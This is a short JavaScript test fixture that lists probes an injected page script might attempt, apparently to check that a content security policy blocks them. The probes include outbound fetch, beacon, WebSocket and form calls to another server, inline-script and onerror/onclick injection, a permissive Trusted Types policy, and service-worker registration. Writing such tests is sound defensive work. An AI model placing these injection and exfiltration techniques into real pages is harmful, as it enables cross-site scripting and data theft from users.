// What a script that somebody managed to run in the page might try. Each says what it brought
// about, or nothing. elsewhere is another server.
({
	fetch: (elsewhere) => fetch(elsewhere + "/fetch").then(() => "went out"),
	ours: () => fetch("/ours").then(() => "went out"),
	beacon(elsewhere) {
		navigator.sendBeacon(elsewhere + "/beacon", "x"); // true even if it is stopped
	},
	image: (elsewhere) => loaded("img", { src: elsewhere + "/image" }),
	frame: (elsewhere) => loaded("iframe", { src: elsewhere + "/frame" }),
	style: (elsewhere) => loaded("link", { rel: "stylesheet", href: elsewhere + "/style" }),
	prefetch: (elsewhere) => loaded("link", { rel: "prefetch", href: elsewhere + "/prefetch" }),
	script: (elsewhere) => loaded("script", { src: elsewhere + "/script" }),
	socket: (elsewhere) =>
		new Promise((done) => {
			const socket = new WebSocket(elsewhere.replace("http", "ws") + "/socket");
			socket.onopen = () => done("is open");
			socket.onerror = () => done();
		}),
	form(elsewhere) {
		const form = document.createElement("form");
		form.action = elsewhere + "/form";
		form.target = "elsewhere";
		document.body.append(form);
		form.submit();
	},
	inline() {
		const script = document.createElement("script");
		script.textContent = "window.evil = 1";
		document.head.append(script);
		return "was taken";
	},
	markup() {
		document.body.innerHTML += "<img src=x onerror='window.evil = 1'>";
		return "was read";
	},
	listener() {
		document.body.setAttribute("onclick", "window.evil = 1");
		document.body.click();
		return window.evil && "ran";
	},
	policy() {
		trustedTypes.createPolicy("evil", { createHTML: (text) => text });
		return "was made";
	},
	samePolicy() {
		trustedTypes.createPolicy("motp", { createHTML: (text) => text });
		return "was made again";
	},
	worker: () => navigator.serviceWorker.register("other.js").then(() => "was registered"),
});
